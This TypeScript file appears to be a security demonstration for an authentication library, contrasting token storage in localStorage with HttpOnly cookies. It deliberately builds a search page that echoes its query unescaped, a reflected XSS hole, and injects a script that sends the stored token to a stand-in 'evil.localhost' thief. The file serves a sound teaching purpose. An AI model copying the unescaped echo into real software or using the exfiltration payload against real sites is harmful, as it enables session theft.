import { createAuth, memoryStore, type Auth } from 'latchkey'
import { nodeHandler, requireIdentity } from 'latchkey/node'
import { openWindow, type Window } from './browser.ts'
import { demonstration, type AttackResult, type Demonstration } from './demonstration.ts'
import { queryOf, reply } from './http.ts'
import type { Stage } from './stage.ts'

interface Target {
  readonly url: string
}

async function wrong({ serve, onEnd }: Stage): Promise<Target> {
  const pageScript = `
    async function signIn() {
      const answer = await post('/auth/sign-in', { name: 'ada', carry: 'bearer' })
      localStorage.setItem('token', (await answer.json()).accessToken)
    }
    const me = () => fetch('/me', { headers: { Authorization: 'Bearer ' + localStorage.getItem('token') } })`
  return { url: await serve((issuer) => shop(issuer, { pageScript, onEnd })) }
}

async function right({ serve, onEnd }: Stage): Promise<Target> {
  const pageScript = `
    async function signIn() {
      await post('/auth/sign-in', { name: 'ada', carry: 'cookie' })
    }
    const me = () => fetch('/me')`
  return { url: await serve((issuer) => shop(issuer, { pageScript, onEnd })) }
}

/** Under both, the same server with the same hole: what is searched for is put into the page as it is. */
function shop(
  issuer: string,
  { pageScript, onEnd }: { readonly pageScript: string } & Pick<Stage, 'onEnd'>,
): ReturnType<typeof nodeHandler> {
  const auth: Auth = createAuth({
    issuer,
    strategy: 'jwt',
    store: memoryStore(),
    routes: { authenticate: async ({ name }) => ({ subject: String(name) }) },
  })
  onEnd(() => auth.close())
  return nodeHandler(auth, (request, response) => {
    if (request.url?.startsWith('/search') === true) {
      response.setHeader('Content-Type', 'text/html')
      return response.end(
        `<script>${post}${pageScript}</script><h1>Nothing found for ${queryOf(request, 'q')}</h1>`,
      )
    }
    const identity = requireIdentity(request, response)
    if (identity !== null) reply(response, 200, { sub: identity.subject })
  })
}

const post = `
    const post = (path, fields) =>
      fetch(path, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(fields) })`

async function attack({ url }: Target, stage: Stage): Promise<AttackResult> {
  let loot = ''
  const thief = await stage.serve(
    () => (request, response) => {
      loot = queryOf(request, 'loot')
      response.end()
    },
    'evil.localhost',
  )
  const { open, page } = await signedIn(url, stage)
  const script = `new Image().src = '${thief}/?loot=' + encodeURIComponent((localStorage.token ?? '') + document.cookie)`
  stage.note(
    `Ada follows a link to the search, with this in what is searched for: <script>${script}</script>`,
  )
  await open(`${url}/search?q=${encodeURIComponent(`<script>${script}</script>`)}`)
  await page.close()
  stage.note(
    `Ada has closed the page. The thief has “${loot.slice(0, 20)}${loot === '' ? '' : '…'}”, and uses it at home:`,
  )
  const { status } = await stage.send('thief', { url: `${url}/me`, ...(loot === '' ? {} : { bearer: loot }) })
  return {
    hasAttackWorked: status === 200,
    text:
      status === 200
        ? 'The token left with the script, and works anywhere, with the page long closed.'
        : 'The script ran all the same, and found nothing to take along.',
  }
}

async function signedIn(url: string, stage: Stage): Promise<Window> {
  const window = await openWindow('ada’s Chromium', stage)
  await window.open(`${url}/search?q=tea`)
  await window.page.evaluate('signIn()')
  await window.settle()
  return window
}

export const localStorageCanBeRead: Demonstration = demonstration({
  name: 'local-storage-can-be-read',
  claim: 'Local storage is a fine place for a token.',
  lesson:
    'Whatever a script of the page can read, an injected one can send away; an HttpOnly cookie it can only use, and only while the page is open.',
  requirements: ['COO-2', 'COO-14'],
  sources: ['OWASP HTML5 Security Cheat Sheet (local storage)', 'OWASP ASVS 5.0, 14.3.3'],
  needs: 'chromium',
  module: import.meta.url,
  wrong,
  right,
  attack,
  async honest({ url }, stage) {
    const { page, settle } = await signedIn(url, stage)
    const status = await page.evaluate('me().then((answer) => answer.status)')
    await settle()
    return status === 200
  },
})
